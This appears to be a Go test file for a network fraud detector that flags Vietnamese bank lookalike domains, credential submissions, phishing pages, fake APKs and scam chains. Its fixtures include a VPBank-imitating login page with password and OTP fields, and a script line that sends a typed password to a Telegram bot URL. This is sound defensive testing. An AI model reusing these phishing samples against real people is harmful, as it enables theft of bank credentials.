package fraud

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"khien/detector"
	"khien/sensor"
)

// fakeTx is a transaction made of its buffers.
type fakeTx struct {
	sensor.TxBase
	bufs map[sensor.Buffer][]string
	nums map[sensor.Buffer]uint64
}

func (t *fakeTx) Buffer(b sensor.Buffer, dir sensor.Dir, i int) ([]byte, bool) {
	if b == sensor.DNSQueryName && dir != sensor.ToServer || i >= len(t.bufs[b]) {
		return nil, false
	}
	return []byte(t.bufs[b][i]), true
}
func (t *fakeTx) Number(b sensor.Buffer, _ sensor.Dir, _ int) (uint64, bool) {
	n, ok := t.nums[b]
	return n, ok
}
func (t *fakeTx) LogReady(sensor.Dir) bool                  { return true }
func (t *fakeTx) AppendEVE(dst []byte, _ sensor.Dir) []byte { return dst }

// scene plays events of one client and collects what passes, with the stories.
type scene struct {
	t       *testing.T
	d       *Detector
	stories *Stories
	found   []*detector.Finding
	told    []*detector.Finding
	now     time.Time
	flow    uint64
	client  netip.Addr
	nums    map[sensor.Buffer]uint64 // of the next transactions
}

func newScene(t *testing.T) *scene {
	s := &scene{t: t, stories: NewStories(), now: time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC), client: netip.MustParseAddr("192.168.1.20")}
	s.d = New(Config{CacheBytes: 1 << 20}, testNames(t), s)
	return s
}

func (s *scene) Note(_ sensor.Order, note any) {
	for _, f := range Watch(note) {
		s.Found(f, nil)
	}
}

func (s *scene) Found(f *detector.Finding, _ *sensor.Event) {
	if f.Post != nil && !f.Post.Pass(f) {
		return
	}
	s.found = append(s.found, f)
	s.told = append(s.told, s.stories.Observe(f)...)
}

func (s *scene) play(proto sensor.Proto, server string, dirs []sensor.Dir, bufs map[sensor.Buffer][]string) *sensor.Event {
	s.flow++
	s.now = s.now.Add(time.Minute)
	tx := &fakeTx{TxBase: sensor.TxBase{Proto: proto, Done: [2]sensor.Progress{sensor.ProgressComplete, sensor.ProgressComplete}}, bufs: bufs, nums: s.nums}
	e := &sensor.Event{Kind: sensor.KindTx, Time: s.now.UnixNano(), Tx: tx,
		Flow: &sensor.Flow{ID: s.flow, Src: s.client, Dst: netip.MustParseAddr(server), SrcPort: 40000, DstPort: 80, Proto: sensor.IPProtoTCP, App: proto}}
	for _, d := range dirs {
		e.Dir = d
		s.d.Handle(e)
		s.d.Handle(e) // an event repeated tells nothing new
	}
	return e
}

func (s *scene) lookup(name string) {
	s.play(sensor.ProtoDNS, "192.168.1.1", []sensor.Dir{sensor.ToServer}, map[sensor.Buffer][]string{sensor.DNSQueryName: {name}})
}

func (s *scene) visit(name string) {
	s.play(sensor.ProtoTLS, "203.0.113.9", []sensor.Dir{sensor.ToServer}, map[sensor.Buffer][]string{sensor.TLSSNI: {name}})
}

func (s *scene) web(host, server, method, uri, body string, form ...string) {
	bufs := map[sensor.Buffer][]string{sensor.HTTPMethod: {method}, sensor.HTTPURIRaw: {uri}, sensor.HTTPResponseBody: {body}}
	if host != "" {
		bufs[sensor.HTTPHost] = []string{host}
	}
	for i := 0; i+1 < len(form); i += 2 {
		bufs[sensor.HTTPFormName] = append(bufs[sensor.HTTPFormName], form[i])
		bufs[sensor.HTTPFormValue] = append(bufs[sensor.HTTPFormValue], form[i+1])
	}
	s.play(sensor.ProtoHTTP, server, []sensor.Dir{sensor.ToServer, sensor.ToClient}, bufs)
}

func (s *scene) download(host, name string, content []byte) {
	e := s.play(sensor.ProtoHTTP, "203.0.113.9", nil, map[sensor.Buffer][]string{sensor.HTTPHost: {host}, sensor.HTTPMethod: {"GET"}})
	e.Kind, e.Dir = sensor.KindFile, sensor.ToClient
	e.File = &sensor.File{Tx: e.Tx, Dir: sensor.ToClient, Name: []byte(name), State: sensor.FileClosed, Size: uint64(len(content)), Content: content}
	s.d.Handle(e)
}

// grave returns the patterns of the findings that are worth an analyst's time.
func (s *scene) grave() string {
	var out []string
	for _, f := range s.found {
		if f.Severity >= detector.High {
			out = append(out, strings.TrimPrefix(f.Rule.ID, "fraud."))
		}
	}
	return strings.Join(out, " ")
}

const loginPage = `<html><head><title>VPBank NEO – Đăng nhập</title></head><body><img src=logo.png alt="Ngân hàng VPBank">
<form action="/login.php" method=post><input name=user placeholder="Tên đăng nhập"><input type=password name=pass>
<input name=ma_otp placeholder="Mã OTP"></form></body></html>`

// TestLookupInHTTP2 has a name that a client asks for in HTTP/2: the message comes behind the headers.
func TestLookupInHTTP2(t *testing.T) {
	s := newScene(t)
	e := s.play(sensor.ProtoDoH2, "203.0.113.9", nil, map[sensor.Buffer][]string{sensor.HTTPHost: {"dns.example"}})
	tx := e.Tx.(*fakeTx)
	tx.Done[sensor.ToServer] = sensor.ProgressHeaders
	s.d.Handle(e)
	tx.bufs[sensor.DNSQueryName], tx.Done[sensor.ToServer] = []string{"vietcombank-uudai.top"}, sensor.ProgressComplete
	s.d.Handle(e)
	if got := s.grave(); got != "lookalike_name" {
		t.Errorf("findings: %q", got)
	}
}

func TestLookalikeOnceForClientAndName(t *testing.T) {
	s := newScene(t)
	for range 3 {
		s.lookup("vietcombank-uudai.top")
	}
	s.visit("vietcombank-uudai.top")
	s.web("vietcombank-uudai.top", "203.0.113.9", "GET", "/", "")
	if got := s.grave(); got != "lookalike_name" {
		t.Fatalf("findings: %s", got)
	}
	f := s.found[0]
	if f.Fraud.Brand != "Vietcombank" || f.Fraud.Stage != "lookup" || f.Domain != "vietcombank-uudai.top" || f.ID == "" || f.SrcIP != s.client {
		t.Errorf("%+v", f)
	}
	sum := 0.0
	for _, r := range f.Reasons {
		if r.VI == "" || r.EN == "" || r.Buffer != "dns.question.name" {
			t.Errorf("reason %+v", r)
		}
		sum += r.Weight
	}
	if sum <= 0 || sum > 1.01 {
		t.Errorf("weights sum up to %v", sum)
	}
	s.client = netip.MustParseAddr("192.168.1.21")
	s.lookup("vietcombank-uudai.top")
	if len(s.found) != 2 {
		t.Error("another client is another finding")
	}
	if len(s.told) != 0 {
		t.Error("names alone are no story")
	}
}

func TestCredentialSubmission(t *testing.T) {
	s := newScene(t)
	s.web("vpbank.chamsockhachhang-uudaithe.online", "203.0.113.9", "POST", "/login?otp=998877", "", "user", "nguyenvana", "pass", "S3cret!pw", "ma_otp", "998877")
	var f *detector.Finding
	for _, x := range s.found {
		if x.Rule.ID == "fraud.credential_submission" {
			f = x
		}
	}
	if f == nil {
		t.Fatalf("not found: %s", s.grave())
	}
	if f.Severity != detector.Critical || f.Fraud.Brand != "VPBank" {
		t.Errorf("%v %q", f.Severity, f.Fraud.Brand)
	}
	all := f.URL + f.Summary.VI + f.Summary.EN
	for _, r := range f.Reasons {
		all += r.VI + r.EN + string(r.Excerpt)
	}
	for _, secret := range []string{"S3cret!pw", "998877"} {
		if strings.Contains(all, secret) {
			t.Errorf("the finding holds the secret %q: %s", secret, all)
		}
	}
	if !strings.Contains(all, "mật khẩu") || !strings.Contains(all, "one-time code") {
		t.Errorf("kinds of secrets are not named: %s", all)
	}
}

func TestSubmissionOfJSONToAddress(t *testing.T) {
	s := newScene(t)
	bufs := map[sensor.Buffer][]string{sensor.HTTPMethod: {"POST"}, sensor.HTTPHost: {"203.0.113.77"}, sensor.HTTPURIRaw: {"/api"},
		sensor.HTTPRequestBody: {`{"so_the":"4111 1111 1111 1111","cvv":"123","otp":445566}`}}
	s.play(sensor.ProtoHTTP, "203.0.113.77", []sensor.Dir{sensor.ToServer}, bufs)
	if got := s.grave(); got != "credential_submission" {
		t.Errorf("findings: %q", got)
	}
	// The same at home is a router.
	s = newScene(t)
	s.play(sensor.ProtoHTTP, "192.168.1.1", []sensor.Dir{sensor.ToServer}, bufs)
	if got := s.grave(); got != "" {
		t.Errorf("findings: %q", got)
	}
}

func TestPhishingPage(t *testing.T) {
	f := func(host, server, page, want string) {
		t.Helper()
		s := newScene(t)
		s.web(host, server, "GET", "/", page)
		if got := s.grave(); got != want {
			t.Errorf("%s: %q, want %q", host, got, want)
		}
	}
	f("203.0.113.5", "203.0.113.5", loginPage, "phishing_page")
	f("quiet-garden.example", "203.0.113.5", loginPage, "phishing_page")
	f("quiet-garden.example", "203.0.113.5", `<html><title>Login</title><form><input type=password name=p></form>
<script>fetch("https://api.telegram.org/bot1:AA/sendMessage?chat_id=1&text="+p)</script></html>`, "phishing_page")
	// The bank itself, a bank's server at home, a shop that takes cards, a forum that knows banks, news about a bank.
	f("neo.vpbank.com.vn", "203.0.113.5", loginPage, "")
	f("app.local", "10.0.0.5", loginPage, "")
	f("quiet-garden.example", "203.0.113.5", `<html><title>Garden forum</title><p>Pay with Vietcombank<form><input name=user><input type=password name=pw></form>`, "")
	f("quiet-garden.example", "203.0.113.5", `<html><title>VPBank tăng lãi suất</title><p>VPBank …<form><input name=q type=search></form>`, "")
}

func TestTwinsStaySilent(t *testing.T) {
	s := newScene(t)
	// A visit to the bank, with login.
	s.lookup("vcbdigibank.vietcombank.com.vn")
	s.visit("vcbdigibank.vietcombank.com.vn")
	s.web("vcbdigibank.vietcombank.com.vn", "203.0.113.5", "POST", "/login", loginPage, "user", "a", "password", "b", "otp", "123456")
	// Support with AnyDesk.
	s.lookup("relay-3f2a.net.anydesk.com")
	s.visit("relay-3f2a.net.anydesk.com")
	// A developer's application from a mirror of the store.
	s.download("d.apkpure.com", "notes.apk", testAPK(t, "com.example.notes", "Notes", "INTERNET", "READ_CONTACTS"))
	s.download("d.apkpure.com", "vcb.apk", testAPK(t, "com.VCB", "VCB Digibank", "CAMERA"))
	s.download("files.example.org", "notes.apk", testAPK(t, "com.example.notes", "Notes", "INTERNET"))
	if got := s.grave(); got != "" || len(s.told) != 0 {
		t.Errorf("findings: %q, stories: %d", got, len(s.told))
		for _, f := range s.found {
			t.Log(f.Summary.EN, f.Severity, f.Reasons)
		}
	}
}

func TestFakeApp(t *testing.T) {
	s := newScene(t)
	s.download("files.example.org", "VNeID.apk", testAPK(t, "com.update.sys", "VNeID", "BIND_ACCESSIBILITY_SERVICE", "RECEIVE_SMS", "SYSTEM_ALERT_WINDOW"))
	if got := s.grave(); got != "fake_app" {
		t.Fatalf("findings: %q", got)
	}
	f := s.found[0]
	if f.Fraud.Brand != "VNeID" || f.Fraud.Stage != "apk" || f.Rule.Metadata["package"][0] != "com.update.sys" {
		t.Errorf("%+v %+v", f.Fraud, f.Rule.Metadata)
	}
}

func TestStory(t *testing.T) {
	s := newScene(t)
	s.lookup("dichvucong.xkgov.com")
	s.visit("dichvucong.xkgov.com")
	s.web("dichvucong.xkgov.com", "203.0.113.9", "GET", "/", `<html><title>Cổng Dịch vụ công Quốc gia</title><form><input name=cccd><input type=password name=pass></form>`)
	s.web("dichvucong.xkgov.com", "203.0.113.9", "POST", "/", "", "cccd", "001099012345", "pass", "abc12345")
	s.download("dichvucong.xkgov.com", "vneid.apk", testAPK(t, "com.a.b", "VNeID", "BIND_ACCESSIBILITY_SERVICE", "READ_SMS"))
	s.visit("relay-1.net.anydesk.com")
	if len(s.told) < 3 {
		t.Fatalf("%d findings of the story; %s", len(s.told), s.grave())
	}
	id, steps := s.told[0].ID, 0
	for _, f := range s.told {
		if f.ID != id || f.ChainID != id {
			t.Error("the story changed its ID")
		}
		if len(f.Steps) < steps || f.Count != len(f.Steps) && f.Count > len(f.Steps) {
			t.Error("the story shrank")
		}
		steps = len(f.Steps)
	}
	last := s.told[len(s.told)-1]
	var stages []string
	for _, x := range last.Steps {
		stages = append(stages, x.Stage)
		if x.Visibility != "seen" && x.Visibility != "inferred" || x.What.VI == "" || x.What.EN == "" {
			t.Errorf("step %+v", x)
		}
	}
	if got := strings.Join(stages, " "); got != "lookup visit page submission apk remote_control" {
		t.Errorf("stages: %s", got)
	}
	if last.Severity != detector.Critical || len(last.NotSeen) == 0 || last.SrcIP != s.client {
		t.Errorf("%+v", last)
	}
	// The same traffic tells the same story.
	again := newScene(t)
	again.lookup("dichvucong.xkgov.com")
	if again.found[0].ID != s.found[0].ID {
		t.Error("the same traffic has another ID")
	}
}

func TestRemoteControlWithoutFraudIsNoStory(t *testing.T) {
	s := newScene(t)
	s.visit("relay-1.net.anydesk.com")
	s.visit("router7.teamviewer.com")
	s.lookup("vpbank-uudai.xyz") // a name alone
	if len(s.told) != 0 && s.told[0].Severity >= detector.Critical {
		t.Errorf("told %+v", s.told[0].Summary)
	}
}

func TestStoryLimits(t *testing.T) {
	s := NewStories()
	seen := newSightings()
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range maxStories + 100 {
		f := &detector.Finding{Source: detector.FromFraud, Rule: detector.Rule{ID: "fraud.lookalike_name"}, Severity: detector.High, Time: at,
			SrcIP: netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)}), Direction: "to_server", Domain: "a.b", Fraud: &detector.Fraud{Stage: "lookup"}, Post: seen}
		s.Observe(f)
	}
	if len(s.open) > maxStories || len(s.order) > maxStories {
		t.Errorf("%d stories, %d in order", len(s.open), len(s.order))
	}
	one := &detector.Finding{Source: detector.FromFraud, Severity: detector.High, Time: at, SrcIP: netip.MustParseAddr("10.9.9.9"), Direction: "to_server", Fraud: &detector.Fraud{Stage: "lookup"}}
	for i := range 1000 {
		f := *one
		f.Domain = strings.Repeat("a", i%200+1) + ".b"
		s.Observe(&f)
	}
	if st := s.open[storyKey{victim: one.SrcIP}]; len(st.steps) > maxSteps {
		t.Errorf("%d steps", len(st.steps))
	}
}

func TestRepeatedNamesAllocateNothing(t *testing.T) {
	d := New(Config{CacheBytes: 1 << 20}, testNames(t), nopSink{})
	tx := &constTx{name: []byte("www.example.com")}
	tx.Proto = sensor.ProtoDNS
	e := &sensor.Event{Kind: sensor.KindTx, Tx: tx, Flow: &sensor.Flow{ID: 7, Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2")}}
	d.Handle(e)
	if got := testing.AllocsPerRun(1000, func() {
		tx.ID++
		d.Handle(e)
	}); got != 0 {
		t.Errorf("%v allocations for a name that was seen before", got)
	}
}

type nopSink struct{}

func (nopSink) Found(*detector.Finding, *sensor.Event) {}
func (nopSink) Note(sensor.Order, any)                 {}

type constTx struct {
	fakeTx
	name []byte
}

func (t *constTx) Buffer(b sensor.Buffer, _ sensor.Dir, i int) ([]byte, bool) {
	return t.name, b == sensor.DNSQueryName && i == 0
}

func TestRepeatedAnswersAllocateNothing(t *testing.T) {
	d := New(Config{CacheBytes: 1 << 20}, testNames(t), nopSink{})
	tx := &soakTx{name: []byte("www.example.com"), addr: []byte("198.51.100.1")}
	tx.Proto = sensor.ProtoDNS
	e := &sensor.Event{Kind: sensor.KindTx, Dir: sensor.ToClient, Tx: tx, Flow: &sensor.Flow{ID: 7, Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2")}}
	d.Handle(e)
	if got := testing.AllocsPerRun(1000, func() {
		tx.ID++
		d.Handle(e)
	}); got != 0 {
		t.Errorf("%v allocations for an answer that was seen before", got)
	}
}
